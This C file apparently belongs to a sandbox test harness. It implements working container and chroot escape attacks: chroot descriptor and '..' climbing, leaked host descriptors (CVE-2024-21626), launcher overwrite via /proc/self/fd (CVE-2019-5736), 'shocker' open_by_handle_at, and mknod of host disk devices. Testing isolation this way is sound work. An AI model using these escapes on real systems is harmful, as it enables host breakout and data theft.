/* Ways out of the root. */
#include "attack.h"
#include <sys/sysmacros.h>

/* Up from a directory that lies outside the present root, then make the top the root. */
static int climb(const char *secret)
{
    for (int i = 0; i < 128; i++)
        if (chdir(".."))
            return lost("chdir ..");
    if (chroot("."))
        return lost("chroot .");
    return show(AT_FDCWD, secret);
}

/* chroot_descriptor SECRET: a descriptor of / is kept over a second chroot (chroot(2)). */
ATTACK(chroot_descriptor)
{
    (void)argc;
    int top = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail"))
        return lost("chroot");
    if (fchdir(top))
        return lost("fchdir");
    return climb(argv[1]);
}

/* chroot_dotdot SECRET: chroot(2) does not change the working directory. */
ATTACK(chroot_dotdot)
{
    (void)argc;
    if (chdir("/"))
        return lost("chdir");
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail"))
        return lost("chroot");
    return climb(argv[1]);
}

/* left_descriptor SECRET: some descriptor leads to a directory of the host (CVE-2024-21626). */
ATTACK(left_descriptor)
{
    (void)argc;
    char path[4096];
    for (int fd = 0; fd < 1024; fd++) {
        struct stat found;
        if (fstat(fd, &found) || !S_ISDIR(found.st_mode))
            continue;
        snprintf(path, sizeof path, "%s", "");
        for (int i = 0; i < 32; i++)
            strcat(path, "../");
        strcat(path, argv[1] + 1);
        if (!show(fd, path))
            return 0;
    }
    errno = ENOENT;
    return lost("no descriptor leads to the host");
}

/* directory SECRET: the working directory lies outside. */
ATTACK(directory)
{
    (void)argc;
    char path[4096] = "";
    for (int i = 0; i < 32; i++)
        strcat(path, "../");
    strcat(path, argv[1] + 1);
    return show(AT_FDCWD, path);
}

/* reopen TEXT: standard input, a file that was opened for reading only, is opened for writing. */
ATTACK(reopen)
{
    (void)argc;
    if (put("/proc/self/fd/0", argv[1]))
        return lost("open /proc/self/fd/0 for writing");
    return won("wrote to the file that is standard input");
}

/* exe_overwrite FD: write to the launcher's own file, once nobody runs it (CVE-2019-5736).
 * loader.c, in place of the tree's dynamic loader, has opened it by /proc/self/exe. */
ATTACK(exe_overwrite)
{
    (void)argc;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
    for (int i = 0; i < 40; i++) {
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0) {
            if (write(fd, "overwritten", 11) != 11)
                return lost("write");
            return won("wrote to the launcher's own file");
        }
        if (errno != ETXTBSY)
            break;
        usleep(50000);
    }
    return lost("open the launcher for writing");
}

/* file_handle HEX TYPE: open a file of the host by its handle, without a path ("shocker"). */
ATTACK(file_handle)
{
    (void)argc;
    struct {
        unsigned bytes;
        int type;
        unsigned char handle[128];
    } wanted = {strlen(argv[1]) / 2, atoi(argv[2]), {0}};
    for (unsigned i = 0; i < wanted.bytes; i++)
        sscanf(argv[1] + 2 * i, "%2hhx", &wanted.handle[i]);
    int mount = open("/", O_RDONLY | O_DIRECTORY);
    int fd = syscall(SYS_open_by_handle_at, mount, &wanted, O_RDONLY);
    if (fd < 0)
        return lost("open_by_handle_at");
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    char text[256];
    ssize_t length = read(fd, text, sizeof text - 1);
    if (length < 0)
        return lost("read");
    text[length] = 0;
    return won("read by handle: %s", text);
}

static int read_device(mode_t kind, dev_t device)
{
    static const char *places[] = {"/device", "/dev/device-of-host", "/dev/shm/device"};
    char block[8192];
    int best = EPERM;
    for (int i = 0; i < 3; i++) {
        if (mknod(places[i], kind | 0600, device)) {
            best = errno == ENOENT ? best : errno;
            continue;
        }
        int fd = open(places[i], O_RDONLY | O_NONBLOCK);
        int number = errno;
        unlink(places[i]);
        if (fd >= 0 && read(fd, block, sizeof block) > 0)
            return 0;
        best = number;
    }
    errno = best;
    return -1;
}

/* host_device MAJOR MINOR: make the device of the host's disk, or else the kernel's log; read it. */
ATTACK(host_device)
{
    (void)argc;
    if (!read_device(S_IFBLK, makedev(atoi(argv[1]), atoi(argv[2]))))
        return won("read the host's disk");
    if (!read_device(S_IFCHR, makedev(1, 11)))
        return won("read the kernel's log by its device");
    return lost("make a device and open it");
}

/* node PATH: open a device that stands in the tree. */
ATTACK(node)
{
    (void)argc;
    char byte;
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0 || read(fd, &byte, 1) != 1)
        return lost(argv[1]);
    return won("read the device %s", argv[1]);
}
